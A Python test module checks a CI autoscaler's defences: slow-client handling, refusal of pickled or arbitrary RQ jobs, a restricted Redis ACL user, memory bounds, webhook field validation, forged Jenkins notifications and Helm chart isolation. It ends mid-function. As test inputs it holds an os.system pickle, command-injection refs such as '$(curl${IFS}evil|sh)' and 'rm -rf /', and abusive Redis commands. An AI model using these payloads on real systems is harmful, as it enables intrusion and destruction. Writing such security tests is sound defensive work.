"""Issue 17's "Done when", checked as an operator (or an attacker) would: through the Procfile's
processes (web under gunicorn, `ci-autoscaler worker`, `ci-autoscaler reconcile`) configured as
the README says, on a Redis of this module's own (with the README's `cia-web` ACL user), kmock
over HTTP and the Jenkins fake; the chart's lines through Helm's SDK. The inputs differ from
the issue's own examples: several slow clients at once, a slow body after its headers, pickles
in other job fields, refs at and around the limits, unicode, forged FINALIZEDs, a COMPLETED
for a build still queued, the chart's values varied."""

import base64
import json
import os
import pickle
import re
import socket
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import pytest
import redis

from tests.support.helm_chart import NAMESPACE, REQUIRED_VALUES, objects_of, render_files
from tests.support.helm_cluster import helm_cluster
from tests.support.jenkins_fake import JenkinsFake
from tests.support.kmock_cluster import running_kube
from tests.support.monitoring import wait_until
from tests.support.payloads import fixture
from tests.support.procfile import GITLAB_TOKEN, JENKINS_TOKEN, ROOT, running_stack
from tests.support.redis_server import RedisServer, free_port
from tests.support.web_process import web_process

AGENTS = "bb17-agents"
WEB_PASSWORD = "cia-web-pw-" + uuid.uuid4().hex
CONFIG = """\
routes:
  - project: "*"
    ref: "refs/heads/*"
    job: build
    template: small
    parameters: {GIT_COMMIT: "{sha}", GIT_BRANCH: "{branch}", GITLAB_PROJECT: "{project}",
                 GITLAB_USER: "{user}"}
templates:
  small:
    image: maven:3.9-eclipse-temurin-21
    cpu: {min: 100m, default: 250m, max: "2"}
    memory: {min: 128Mi, default: 256Mi, max: 2Gi}
"""
MAX_BODY = 4 * 2**20  # the README's default CI_AUTOSCALER_MAX_BODY_BYTES


def readme_acl_line() -> str:
    """The README's `ACL SETUSER cia-web ...` line for an external Redis, as an operator pastes
    it, with the password filled in."""
    text = (ROOT / "README.md").read_text()
    block = text.split("<!-- redis-web-acl -->", 1)[1].split("```", 2)[1]
    line = next(l for l in block.splitlines() if l.startswith("ACL SETUSER"))
    return line.replace("WEB_PASSWORD", WEB_PASSWORD)


@pytest.fixture(scope="module")
def parts(tmp_path_factory):
    """One set of processes for the module: the Procfile's three on the admin Redis URL, plus
    a second web (the Procfile's `web` line) on the README's restricted `cia-web` user."""
    tmp = tmp_path_factory.mktemp("bb17")
    server = RedisServer(tmp / "redis").start()
    admin = redis.Redis.from_url(server.url)
    admin.execute_command(*readme_acl_line().split())
    config = tmp / "config.yaml"
    config.write_text(CONFIG)
    logs = tmp / "logs"
    logs.mkdir()
    try:
        with running_kube(tmp) as kube, JenkinsFake() as jenkins:
            kube.add_node("node-a", cpu="64", memory="512Gi")  # room for every build here
            kube.add_node("node-b", cpu="4", memory="16Gi", pods="20")
            with running_stack(redis_url=server.url, kube=kube, jenkins_fake=jenkins,
                               config=config, namespace=AGENTS, logs=logs) as stack:
                web_url = server.url.replace("redis://", f"redis://cia-web:{WEB_PASSWORD}@")
                port = free_port()
                env = stack.env | {"REDIS_URL": web_url, "PORT": str(port),
                                   "CI_AUTOSCALER_SPOOL_DIR": str(tmp / "web-spool")}
                web_line = next(l for l in (ROOT / "Procfile").read_text().splitlines()
                                if l.startswith("web:")).split(":", 1)[1].strip()
                with web_process(web_line, env, port, logs / "web-acl.log") as web2:
                    yield {"stack": stack, "kube": kube, "jenkins": jenkins, "admin": admin,
                           "redis_url": server.url, "web_url": web_url, "acl_port": port,
                           "acl_web": web2, "logs": logs}
    finally:
        admin.close()
        server.stop()


def push_body(*, ref: str = "refs/heads/main", sha: str | None = None,
              project: str = "team/app", user: str = "alice", **more) -> bytes:
    body = fixture("gitlab_push_real_lrz.json")
    sha = sha if sha is not None else uuid.uuid4().hex + uuid.uuid4().hex[:8]
    body.update(ref=ref, after=sha, checkout_sha=sha, user_username=user, **more)
    body["project"]["path_with_namespace"] = project
    return json.dumps(body).encode()


def post_push(parts, body: bytes, *, port: int | None = None) -> tuple[int, dict]:
    port = port or parts["stack"].port
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/webhooks/gitlab", data=body, method="POST",
        headers={"Content-Type": "application/json", "X-Gitlab-Event": "Push Hook",
                 "X-Gitlab-Token": GITLAB_TOKEN, "Idempotency-Key": str(uuid.uuid4())})
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"{}")


def built(parts, branch: str):
    """The Jenkins build requested for this branch, once the worker has triggered it."""
    jenkins = parts["jenkins"]
    def sizes() -> str:
        return "\n".join(f"{p['metadata']['name']} {p['spec'].get('nodeName')} "
                         f"{[c.get('resources', {}).get('requests') for c in p['spec']['containers']]}"
                         for p in parts["kube"].pods(AGENTS))
    return wait_until(lambda: jenkins.build_with("GIT_BRANCH", branch), timeout=30,
                      what=lambda: f"a build of {branch!r}\n{sizes()}\n"
                      f"{parts['stack'].text()[-2000:]}")[0]


# -- 1. slow clients ------------------------------------------------------------------------

def _trickle(sock: socket.socket, data: bytes, stop: threading.Event) -> None:
    """A client that sends one byte a second until stopped or cut off."""
    for byte in data:
        if stop.wait(1.0):
            return
        try:
            sock.send(bytes([byte]))
        except OSError:
            return


HALF_OPEN = 40  # five times the web worker's threads (8)


def test_many_slow_clients_do_not_delay_a_push_or_healthz(parts):
    port = parts["stack"].port
    stop = threading.Event()
    socks = []
    try:
        for i in range(HALF_OPEN):  # half-open: half a request line, then nothing
            s = socket.create_connection(("127.0.0.1", port))
            s.sendall(b"POST /webhooks/gi" if i % 2 else b"GET /hea")
            socks.append(s)
        for i in range(4):  # a byte a second, a head that never ends
            s = socket.create_connection(("127.0.0.1", port))
            socks.append(s)
            threading.Thread(target=_trickle, daemon=True, args=(
                s, b"POST /webhooks/gitlab HTTP/1.1\r\nHost: x\r\n" * 10, stop)).start()
        body = push_body(ref="refs/heads/slow-body")
        for _ in range(3):  # a token holder's full head, then a body a byte a second
            s = socket.create_connection(("127.0.0.1", port))
            s.sendall(b"POST /webhooks/gitlab HTTP/1.1\r\nHost: x\r\n"
                      b"Content-Type: application/json\r\nX-Gitlab-Event: Push Hook\r\n"
                      + f"X-Gitlab-Token: {GITLAB_TOKEN}\r\n".encode()
                      + f"Content-Length: {len(body)}\r\n\r\n".encode())
            socks.append(s)
            threading.Thread(target=_trickle, daemon=True, args=(s, body, stop)).start()
        started = time.monotonic()
        status, answer = post_push(parts, push_body(ref="refs/heads/while-slow"))
        took = time.monotonic() - started
        assert (status, answer.get("status")) == (202, "queued"), answer
        assert took < 1.0, f"push answered after {took:.2f}s"
        started = time.monotonic()
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=5) as r:
            assert r.status == 200
        assert time.monotonic() - started < 1.0
        # the byte-a-second head is cut off at its deadline (5 s): the server closes it
        trickler = socks[HALF_OPEN]
        trickler.settimeout(10)  # a blocking read: returns when the server answers or closes
        try:
            while trickler.recv(4096):  # a 408, if any, then the close (b"")
                pass
        except ConnectionResetError:  # closed with our bytes unread: a reset
            pass
        print(f"head sent a byte a second cut off after {time.monotonic() - started:.1f}s")
        # a body a byte a second is answered 408 at its deadline (README: 10 s after its head)
        slow_body = socks[HALF_OPEN + 4]
        slow_body.settimeout(15)
        answer_head = slow_body.recv(4096)
        assert answer_head.startswith(b"HTTP/1.1 408"), answer_head[:200]
        print(f"body sent a byte a second cut off after {time.monotonic() - started:.1f}s")
    finally:
        stop.set()
        for s in socks:
            s.close()


# -- 2. no pickle; the web's Redis user -------------------------------------------------------

class _Planted:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.mark.parametrize("field", ["data", "meta", "result"])
def test_a_pickled_job_field_is_refused_without_running(parts, tmp_path, field):
    admin = parts["admin"]
    marker = tmp_path / f"ran-{field}"
    job_id = f"planted-{field}-{uuid.uuid4().hex[:8]}"
    payload = pickle.dumps(_Planted(str(marker)))
    good_data = json.dumps(["workers.engine.tasks.provision_agent", None, [], {}]).encode()
    fields = {"data": good_data, "created_at": "2026-12-06T10:00:00.000000Z",
              "enqueued_at": "2026-12-06T10:00:00.000000Z", "origin": "ci-autoscaler",
              "description": "planted", "status": "queued", "timeout": "180"}
    fields[field] = payload
    admin.hset(f"rq:job:{job_id}", mapping=fields)
    admin.rpush("rq:queue:ci-autoscaler", job_id)
    wait_until(lambda: job_id not in [j.decode() for j in
                                      admin.lrange("rq:queue:ci-autoscaler", 0, -1)],
               timeout=20, what="the worker taking the planted job")
    # the worker goes on: a real push is still built after it
    branch = f"after-pickle-{field}"
    status, answer = post_push(parts, push_body(ref=f"refs/heads/{branch}"))
    assert status == 202, answer
    built(parts, branch)
    assert not marker.exists(), f"the pickle in {field!r} ran"
    assert parts["stack"].procs["worker"].poll() is None, parts["stack"].text()[-3000:]


@pytest.mark.parametrize("data", [
    ["os.system", None, ["touch {marker}"], {}],
    ["workers.telemetry.liveness.os.system", None, ["touch {marker}"], {}],  # via ours
    ["join", "touch {marker}", [[]], {}],  # a method of an instance
], ids=["os.system", "os.system via a module of ours", "an instance's method"])
def test_a_json_job_naming_no_task_of_ours_is_refused_without_running(parts, tmp_path, data):
    """JSON keeps pickle out, but RQ imports and calls whatever a job's data names: a job
    written into rq:job:* naming os.system ran its command in the worker."""
    admin, marker = parts["admin"], tmp_path / "ran"
    job_id = f"planted-json-{uuid.uuid4().hex[:8]}"
    data = json.loads(json.dumps(data).replace("{marker}", str(marker)))
    admin.hset(f"rq:job:{job_id}", mapping={
        "data": json.dumps(data), "created_at": "2026-12-06T10:00:00.000000Z",
        "enqueued_at": "2026-12-06T10:00:00.000000Z", "origin": "ci-autoscaler",
        "description": "planted", "status": "queued", "timeout": "180"})
    admin.rpush("rq:queue:ci-autoscaler", job_id)
    wait_until(lambda: admin.hget(f"rq:job:{job_id}", "status") in (b"failed", b"finished"),
               timeout=20, what=lambda: "the worker taking the planted job\n"
               + parts["stack"].text()[-2000:])
    assert not marker.exists(), f"the planted job ran: {data}"
    assert admin.hget(f"rq:job:{job_id}", "status") == b"failed"
    assert parts["stack"].procs["worker"].poll() is None, parts["stack"].text()[-3000:]


def test_the_readme_web_user_is_refused_what_the_issue_names(parts):
    web = redis.Redis.from_url(parts["web_url"])
    admin = parts["admin"]
    admin.hset("rq:job:someone", "data", b"x")
    refused = [
        ("CONFIG", "SET", "dir", "/tmp"), ("CONFIG", "GET", "*"),
        ("EVAL", "return 1", "0"), ("EVAL", "return redis.call('ping')", "0"),
        ("EVALSHA", "0" * 40, "0"), ("SCRIPT", "LOAD", "return 1"),
        ("FUNCTION", "LOAD", "#!lua name=evil\nredis.register_function('x', function() "
                             "return 1 end)"),
        ("FUNCTION", "DELETE", "x"), ("FUNCTION", "FLUSH"), ("KEYS", "*"),
        ("HGETALL", "rq:job:someone"), ("HSET", "rq:job:planted", "data", "x"),
        ("DEL", "rq:job:someone"), ("RPUSH", "rq:queue:ci-autoscaler", "planted"),
        ("LPUSH", "rq:queue:ci-autoscaler", "planted"), ("MODULE", "LIST"),
        ("ACL", "SETUSER", "cia-web", "+@all"), ("FLUSHALL",), ("SLAVEOF", "1.2.3.4", "1"),
        ("MIGRATE", "1.2.3.4", "1", "rq:job:someone", "0", "1000"),
        ("SHUTDOWN",)]
    for command in refused:
        with pytest.raises(redis.exceptions.NoPermissionError):
            web.execute_command(*command)
    # FCALL of a loaded function cannot reach rq:job:* either: the ACL checks its keys
    libraries = admin.execute_command("FUNCTION", "LIST")
    names = []
    def as_dict(item) -> dict:
        item = item if isinstance(item, dict) else dict(zip(item[::2], item[1::2]))
        return {k.decode() if isinstance(k, bytes) else k: v for k, v in item.items()}
    for lib in libraries:
        for fn in as_dict(lib)["functions"]:
            name = as_dict(fn)["name"]
            names.append(name.decode() if isinstance(name, bytes) else name)
    assert names, "the worker loaded no Redis functions"
    for name in names:
        with pytest.raises(redis.exceptions.ResponseError, match="(?i)no permission|noperm"):
            web.execute_command("FCALL", name, "1", "rq:job:someone", "x", "y")
    assert admin.hgetall("rq:job:someone") == {b"data": b"x"}
    web.close()


def test_a_push_through_the_restricted_web_is_queued_and_built(parts):
    status, answer = post_push(parts, push_body(ref="refs/heads/via-acl-web"),
                               port=parts["acl_port"])
    assert (status, answer.get("status")) == (202, "queued"), answer
    built(parts, "via-acl-web")


def _acl_post(parts, path: str, body: bytes, headers: dict[str, str]) -> tuple[int, dict]:
    request = urllib.request.Request(f"http://127.0.0.1:{parts['acl_port']}{path}", data=body,
                                     method="POST", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"{}")


def _acl_jenkins(parts, note: dict) -> tuple[int, dict]:  # the plugin: token in the URL
    return _acl_post(parts, f"/webhooks/jenkins?token={JENKINS_TOKEN}", json.dumps(note).encode(),
                     {"Content-Type": "application/json;charset=UTF-8"})


def test_the_whole_web_path_runs_through_the_restricted_web_without_one_refusal(parts):
    """The README's web user writes only the keys the web writes, and reads the rest (%R~):
    through the Procfile's web on it, a push, a tag push, the build's STARTED, COMPLETED and
    FINALIZED, /healthz, /readyz, /metrics and /status are answered without one refusal in
    Redis's ACL LOG, and the build runs and is released as through the full-rights web."""
    admin, jenkins, kube = parts["admin"], parts["jenkins"], parts["kube"]
    admin.acl_log_reset()  # the refusal tests' own
    branch = "acl-path-" + uuid.uuid4().hex[:6]
    status, answer = post_push(parts, push_body(ref=f"refs/heads/{branch}"),
                               port=parts["acl_port"])
    assert (status, answer.get("status")) == (202, "queued"), answer
    tag = fixture("gitlab_tag_push_create_real_lrz.json")  # no route takes tags: ignored
    status, answer = _acl_post(parts, "/webhooks/gitlab", json.dumps(tag).encode(), {
        "Content-Type": "application/json", "X-Gitlab-Event": "Tag Push Hook",
        "X-Gitlab-Token": GITLAB_TOKEN, "Idempotency-Key": str(uuid.uuid4())})
    assert status in (200, 202), answer
    build = built(parts, branch)
    agent = _agent_of(build)
    wait_until(lambda: _kept(parts, agent), timeout=10, what="the agent's pod and node")
    jenkins.start_build(build.queue_id)
    status, answer = _acl_jenkins(parts, jenkins.notification(build, "STARTED"))
    assert (status, answer.get("status")) == (200, "recorded"), answer
    key = answer["build_key"]
    # the worker's intake mover marks it (the web's user may only read a build's record)
    wait_until(lambda: admin.hget(f"cia:build:{key}", "status") == b"running", timeout=10,
               what="the STARTED applied by the worker's mover")
    jenkins.finish_build(build.queue_id)
    status, answer = _acl_jenkins(parts, jenkins.notification(build, "COMPLETED"))
    assert (status, answer.get("status")) == (202, "queued"), answer
    status, answer = _acl_jenkins(parts, jenkins.notification(build, "FINALIZED"))
    assert (status, answer.get("status")) == (200, "duplicate"), answer
    wait_until(lambda: kube.pod(AGENTS, agent) is None and agent not in jenkins.nodes,
               timeout=20, what=lambda: "the agent released\n" + parts["stack"].text()[-3000:])
    for path in ("/healthz", "/readyz", "/metrics", "/status"):
        with urllib.request.urlopen(f"http://127.0.0.1:{parts['acl_port']}{path}",
                                    timeout=30) as page:
            assert page.status == 200, path
    assert [e for e in admin.acl_log() if e.get("username") == "cia-web"] == []


# -- 3. bounded memory per request ----------------------------------------------------------

def _worker_pid(master: int) -> int:
    children = Path(f"/proc/{master}/task/{master}/children").read_text().split()
    assert len(children) == 1, children  # WEB_CONCURRENCY=1
    return int(children[0])


def _kib(pid: int, field: str) -> int:
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(rf"^{field}:\s+(\d+) kB", text, re.M).group(1))


def _body_of(size: int, filler) -> bytes:
    """A push body of exactly `size` bytes: 20 commits, the first's `added` list made long
    with `filler` entries (many small JSON values: a parser that builds the whole tree makes
    an object of each, tens of bytes for each two of the body)."""
    base = json.loads(push_body(ref="refs/heads/big-" + uuid.uuid4().hex[:6]))
    base["commits"] = [dict(base["commits"][0], id=uuid.uuid4().hex + "0" * 8,
                            message="änderung ✓ " * 20) for _ in range(20)]
    base["total_commits_count"] = 20
    base["commits"][0]["added"] = "@FILL@"
    head = json.dumps(base, ensure_ascii=False).encode()
    room = size - len(head) + len(b'"@FILL@"') - 2  # the list's brackets
    item = json.dumps(filler, ensure_ascii=False).encode()
    count = (room + 1) // (len(item) + 1)
    listed = b",".join([item] * count)
    listed = b"[" + listed + b" " * (room - len(listed)) + b"]"
    body = head.replace(b'"@FILL@"', listed, 1)
    assert len(body) == size, (len(body), size)
    return body


@pytest.mark.parametrize("filler", ["a", "ü", "x" * 40, {}, [], 0, 1.5, None, True], ids=repr)
def test_peak_rss_of_a_body_at_the_limit(parts, filler):
    stack = parts["stack"]
    worker = _worker_pid(stack.procs["web"].pid)
    post_push(parts, push_body(ref="refs/heads/warm-" + uuid.uuid4().hex[:6]))  # warmed up
    body = _body_of(MAX_BODY, filler)
    Path(f"/proc/{worker}/clear_refs").write_text("5")  # resets VmHWM to the current RSS
    before = _kib(worker, "VmRSS")
    status, answer = post_push(parts, body)
    peak = _kib(worker, "VmHWM")
    assert status in (200, 202), answer
    growth_mib = (peak - before) / 1024
    print(f"filler {str(filler)[:3]!r}: body {len(body)} B, peak RSS growth {growth_mib:.1f} MiB")
    assert growth_mib < 64, f"peak RSS grew {growth_mib:.1f} MiB"  # the issue's bound
    # and what it asks to build: "within a few MiB of its body size"
    assert growth_mib < len(body) / 2**20 + 12, f"peak RSS grew {growth_mib:.1f} MiB"


def test_a_25mb_push_is_ignored_within_bounded_memory(parts):
    stack = parts["stack"]
    worker = _worker_pid(stack.procs["web"].pid)
    body = push_body(ref="refs/heads/" + "r" * 200, user="u" * 20_000_000)
    Path(f"/proc/{worker}/clear_refs").write_text("5")
    before = _kib(worker, "VmRSS")
    status, answer = post_push(parts, body)
    growth_mib = (_kib(worker, "VmHWM") - before) / 1024
    assert (status, answer.get("status")) == (200, "ignored"), answer
    assert answer.get("reason")
    assert growth_mib < 64, f"peak RSS grew {growth_mib:.1f} MiB"


# -- 4./5. validated fields -------------------------------------------------------------------

BAD_PUSHES = {
    "newline in ref": dict(ref="refs/heads/x\n$(curl${IFS}evil|sh);`id`"),
    "20 MB ref": dict(ref="refs/heads/" + "a" * 20_000_000),
    "non-hex sha": dict(sha="'; rm -rf / #" + "0" * 28),
    "upper-case sha": dict(sha="A" * 40),
    "39 hex sha": dict(sha="a" * 39),
    "65 hex sha": dict(sha="a" * 65),
    "sha with a newline": dict(sha="a" * 40 + "\n"),
    "256 byte ref": dict(ref="refs/heads/" + "b" * 245),
    "134 characters but 257 bytes": dict(ref="refs/heads/" + "é" * 123),
    "ref with ..": dict(ref="refs/heads/a..b"),
    "ref with @{": dict(ref="refs/heads/a@{1}"),
    "ref ending .lock": dict(ref="refs/heads/topic.lock"),
    "ref with DEL": dict(ref="refs/heads/a\x7fb"),
    "ref with NUL": dict(ref="refs/heads/a\x00b"),
    "ref with a space": dict(ref="refs/heads/a b"),
    "ref with a backslash": dict(ref="refs/heads/a\\b"),
    "ref with a colon": dict(ref="refs/heads/a:b"),
    "ref ending with /": dict(ref="refs/heads/a/"),
    "component starting with .": dict(ref="refs/heads/.hidden"),
    "not a full ref": dict(ref="main"),
    "project path of 300 bytes": dict(project="g/" + "p" * 298),
    "project path with ..": dict(project="group/../other"),
    "project with a newline": dict(project="group/app\nx"),
}


def _our_keys(admin) -> set[bytes]:
    return set(admin.scan_iter(match="cia:*", count=1000)) | \
        set(admin.scan_iter(match="rq:*", count=1000))


@pytest.mark.parametrize("case", BAD_PUSHES)
def test_a_push_breaking_a_rule_is_200_ignored_and_stored_nowhere(parts, case):
    admin, jenkins = parts["admin"], parts["jenkins"]
    before_keys = _our_keys(admin)
    intake_before = {k: admin.llen(k) for k in before_keys if admin.type(k) == b"list"}
    requests_before = len(jenkins.requests)
    status, answer = post_push(parts, push_body(**BAD_PUSHES[case]))
    assert (status, answer.get("status")) == (200, "ignored"), (case, answer)
    assert answer.get("reason"), answer
    # the worker's own keys (rq:*) may change meanwhile, with earlier pushes' jobs, and so may
    # the reconcile pass's recount of the live agents (workers.adapters.agent_counts, on its
    # own clock: it failed the slow 20 MB case now and then): none of the service's other keys
    # (cia:*) may appear but a delivery's dedupe record
    new = {k.decode() for k in _our_keys(admin) - before_keys}
    assert all(k.startswith(("rq:", "cia:agent-count")) or "dedupe" in k or "deliver" in k
               for k in new), new
    grown = {k: n for k, n in intake_before.items() if admin.llen(k) > n}
    assert not grown, grown
    assert len(jenkins.requests) == requests_before or all(
        r.path.startswith(("/computer", "/queue", "/api", "/job/build/api", "/crumb"))
        and r.method == "GET" for r in jenkins.requests[requests_before:]), \
        [r.path for r in jenkins.requests[requests_before:]]
    assert "\n" not in json.dumps(answer["reason"]).strip('"').replace("\\n", "")


GOOD_REFS = {
    "dollar and backquotes": "refs/heads/x$(curl${IFS}evil|sh);`id`",
    "at the 255 byte limit": "refs/heads/" + "c" * 244,
    "unicode within 255 bytes": "refs/heads/ünïcødé-✓-" + "é" * 100,
    "quotes and pipes": "refs/heads/fix'\";|&>x",
    "a lone @ component": "refs/heads/@",
}


@pytest.mark.parametrize("case", GOOD_REFS)
def test_a_valid_ref_with_shell_characters_still_builds_verbatim(parts, case):
    ref = GOOD_REFS[case]
    assert len(ref.encode()) <= 255
    status, answer = post_push(parts, push_body(ref=ref))
    assert (status, answer.get("status")) == (202, "queued"), (case, answer)
    build = built(parts, ref.removeprefix("refs/heads/"))
    assert build.parameters["GIT_BRANCH"] == ref.removeprefix("refs/heads/")


def test_a_size_hint_passes_on_only_its_parsed_quantity(parts):
    options = {"ci": {"variable": {"CI_AUTOSCALER_CPU=$(id) 1000": 1,
                                   "CI_AUTOSCALER_MEMORY=1536Mi": 1,
                                   "EVIL=`reboot`": 1}}}
    status, answer = post_push(parts, push_body(ref="refs/heads/hinted", push_options=options))
    assert status == 202, answer
    build = built(parts, "hinted")
    assert build.parameters.get("CI_AUTOSCALER_CPU") in (None,), build.parameters
    assert build.parameters.get("CI_AUTOSCALER_MEMORY") in (None, "1536Mi"), build.parameters
    assert not any("$(" in v or "`" in v for v in build.parameters.values()), build.parameters
    assert "EVIL" not in build.parameters


_GROOVY = re.compile(r"```groovy\n(.*?)```", re.S)
_SH_DOUBLE = re.compile(
    r"""\b(?:sh|bat|powershell|pwsh)\s*(?:\(\s*(?:script\s*:\s*)?)?("{3}.*?"{3}|"(?:[^"\\\n]|\\.)*")""",
    re.S)


def _scripts() -> list[tuple[str, str]]:
    """(where, groovy text) of the README's Groovy blocks and every Jenkinsfile in examples/."""
    found = [(f"README block {i}", b)
             for i, b in enumerate(_GROOVY.findall((ROOT / "README.md").read_text()))]
    for path in list((ROOT / "examples").rglob("Jenkinsfile*")) + \
            list((ROOT / "examples").rglob("*.groovy")) + list((ROOT / "docs").rglob("*.md")):
        text = path.read_text()
        blocks = _GROOVY.findall(text) if path.suffix == ".md" else [text]
        found += [(str(path.relative_to(ROOT)), b) for b in blocks]
    return found


def test_no_example_interpolates_a_parameter_into_a_shell_string():
    scripts = _scripts()
    assert scripts, "no Jenkinsfile found in the README"
    for where, text in scripts:
        for match in _SH_DOUBLE.finditer(text):
            literal = match.group(1)
            assert "params." not in literal and "${" not in literal \
                and not re.search(r"\$[A-Za-z_]", literal), (where, literal)


# -- 6. notifications confirmed ---------------------------------------------------------------

def _agent_of(build) -> str:
    return build.parameters["CI_AUTOSCALER_AGENT"]


def _forged(jenkins, build, *, job: str, number: int, phase: str = "COMPLETED",
            status: str = "SUCCESS") -> dict:
    relative = "".join(f"job/{p}/" for p in job.split("/"))
    return {"name": job.rsplit("/", 1)[-1], "url": relative, "build": {
        "full_url": f"{jenkins.url}/{relative}{number}/", "number": number,
        "queue_id": build.queue_id, "phase": phase, "url": f"{relative}{number}/",
        "status": status, "parameters": dict(build.parameters)}}


def _kept(parts, agent: str) -> bool:
    return parts["kube"].pod(AGENTS, agent) is not None and agent in parts["jenkins"].nodes


def test_forged_completions_do_not_release_the_agent(parts):
    stack, jenkins, kube = parts["stack"], parts["jenkins"], parts["kube"]
    status, answer = post_push(parts, push_body(ref="refs/heads/forged"))
    assert status == 202, answer
    build = built(parts, "forged")
    agent = _agent_of(build)
    wait_until(lambda: _kept(parts, agent), timeout=10, what="the agent's pod and node")
    # the rendered pod holds no literal secret: a secretKeyRef to a Secret owned by the pod
    pod = kube.pod(AGENTS, agent)
    envs = [e for c in pod["spec"].get("initContainers", []) + pod["spec"]["containers"]
            for e in c.get("env", [])]
    secret_env = [e for e in envs if e["name"] == "JENKINS_SECRET"]
    assert secret_env and all("value" not in e and e["valueFrom"]["secretKeyRef"]
                              for e in secret_env), secret_env
    assert jenkins.nodes[agent].secret not in json.dumps(pod)
    ref_name = secret_env[0]["valueFrom"]["secretKeyRef"]["name"]
    assert ref_name in kube.secrets(AGENTS)

    def refused_by_release_job(status: int, answer: dict, before: int) -> None:
        """A notification passed to the release job (202) is refused there once Jenkins'
        API does not confirm it; one the web ignored (200) never got that far."""
        assert status in (200, 202), answer
        if status == 200:
            assert answer.get("status") == "ignored", answer
            return
        wait_until(lambda: stack.text().count("Jenkins does not confirm it") > before,
                   timeout=20, what=lambda: "the release job refusing it\n"
                   + stack.text()[-3000:])

    # a COMPLETED naming another job (the agent name is public: it comes from push data); one
    # of the same name in another folder may be the build's job moved (README), and so goes
    # to the release job, which asks Jenkins
    for job in ("deploy-prod", "other/build", "Build2", "build/x"):
        before = stack.text().count("Jenkins does not confirm it")
        status, answer = stack.jenkins(_forged(jenkins, build, job=job, number=1))
        refused_by_release_job(status, answer, before)
        assert _kept(parts, agent), job
    # the build's own job, for a run Jenkins still has queued: Jenkins does not confirm it
    assert build.state == "queued"
    before = stack.text().count("Jenkins does not confirm it")
    status, answer = stack.jenkins(_forged(jenkins, build, job="build", number=1))
    refused_by_release_job(status, answer, before)
    assert _kept(parts, agent)
    # running now: a FINALIZED for its own number while Jenkins says it is still building
    jenkins.start_build(build.queue_id)
    status, answer = stack.jenkins(jenkins.notification(build, "STARTED"))
    assert status == 200, answer
    # taken by the worker's intake mover: the run's number is the build's from then on
    wait_until(lambda: parts["admin"].hget(f"cia:build:{answer['build_key']}",
                                           "jenkins_build") == str(build.number).encode(),
               timeout=10, what="the STARTED applied by the worker's mover")
    before = stack.text().count("Jenkins does not confirm it")
    status, answer = stack.jenkins(_forged(jenkins, build, job="build", number=build.number,
                                           phase="FINALIZED"))
    refused_by_release_job(status, answer, before)
    assert _kept(parts, agent)
    # another run number of the same job (a Replay's, say)
    status, answer = stack.jenkins(_forged(jenkins, build, job="build",
                                           number=build.number + 7))
    assert status == 200 and answer.get("status") == "ignored", answer
    assert _kept(parts, agent)
    # the true end releases it, and its Secret goes with it
    jenkins.finish_build(build.queue_id)
    status, answer = stack.jenkins(jenkins.notification(build, "COMPLETED"))
    assert status == 202, answer
    wait_until(lambda: kube.pod(AGENTS, agent) is None and agent not in jenkins.nodes
               and ref_name not in kube.secrets(AGENTS), timeout=20,
               what=lambda: "the agent released\n" + stack.text()[-3000:])


# -- 7. the chart -----------------------------------------------------------------------------

def _values(**more) -> dict:
    values = json.loads(json.dumps(REQUIRED_VALUES))
    for dotted, value in more.items():
        target = values
        *parents, last = dotted.split("__")
        for key in parents:
            target = target.setdefault(key, {})
        target[last] = value
    return values


def _render(values: dict, namespace: str = NAMESPACE) -> list[dict]:
    return objects_of(render_files(values, namespace=namespace))


CHART_VARIANTS = {
    "default": {},
    "own agent namespace, restricted": dict(agents__namespace="builds-x",
                                             agents__podSecurity={"enforce": "restricted"}),
    "extra sources selecting every namespace": dict(networkPolicy__web={
        "extraFrom": [{"namespaceSelector": {}},
                      {"namespaceSelector": {"matchLabels": {
                          "kubernetes.io/metadata.name": "ci-agents"}}}]}),
    "ingress controller in the agents' namespace": dict(networkPolicy__web={
        "ingressController": {"namespaceSelector": {"matchLabels": {
            "kubernetes.io/metadata.name": "ci-agents"}}, "podSelector": {}}}),
    "admin port off": dict(web={"admin": {"enabled": False}}),
    "agents in the release's namespace": dict(agents__namespace=NAMESPACE),
}
# Values the chart may refuse rather than render (a refusal isolates as well as a render does).
MAY_REFUSE: set[str] = set()


def _agent_namespace(objs: list[dict]) -> str:
    names = [o["metadata"]["name"] for o in objs if o["kind"] == "Namespace"]
    assert len(names) == 1, names
    return names[0]


@pytest.mark.parametrize("case", CHART_VARIANTS)
def test_chart_isolates_agents_and_keeps_them_from_the_web(case):
    try:
        objs = _render(_values(**CHART_VARIANTS[case]), namespace="ci-agents"
                       if "agents' namespace" in case else NAMESPACE)
    except Exception as err:
        assert case in MAY_REFUSE and "agent" in str(err).lower(), err
        return
    made = [o for o in objs if o["kind"] == "Namespace"]
    if made:
        agents = made[0]["metadata"]["name"]
        assert agents != NAMESPACE
        labels = made[0]["metadata"]["labels"]
        assert labels["pod-security.kubernetes.io/enforce"] in ("baseline", "restricted")
    else:  # the release's own namespace named (values.yaml: no Pod Security labels then)
        assert case == "agents in the release's namespace", case
        agents = NAMESPACE
    policies = [o for o in objs if o["kind"] == "NetworkPolicy"]
    in_agents = [p for p in policies if p["metadata"].get("namespace") == agents]
    assert any(p["spec"]["podSelector"] == {} and set(p["spec"]["policyTypes"]) >= {
        "Ingress", "Egress"} and not p["spec"].get("ingress") for p in in_agents) or any(
        set(p["spec"]["policyTypes"]) >= {"Ingress", "Egress"} for p in in_agents), in_agents
    for policy in in_agents:
        for rule in policy["spec"].get("egress", []):
            for peer in rule.get("to", []):
                block = peer.get("ipBlock")
                if block and block["cidr"] in ("0.0.0.0/0",):
                    assert "169.254.169.254/32" in block.get("except", []), block
    web = [p for p in policies if p["spec"]["podSelector"].get("matchLabels", {}).get(
               "app.kubernetes.io/component") == "web"]
    assert web, [p["metadata"]["name"] for p in policies]
    for policy in web:
        for rule in policy["spec"].get("ingress", []):
            assert rule.get("from"), rule  # no rule admits every source
            for peer in rule["from"]:
                selector = peer.get("namespaceSelector")
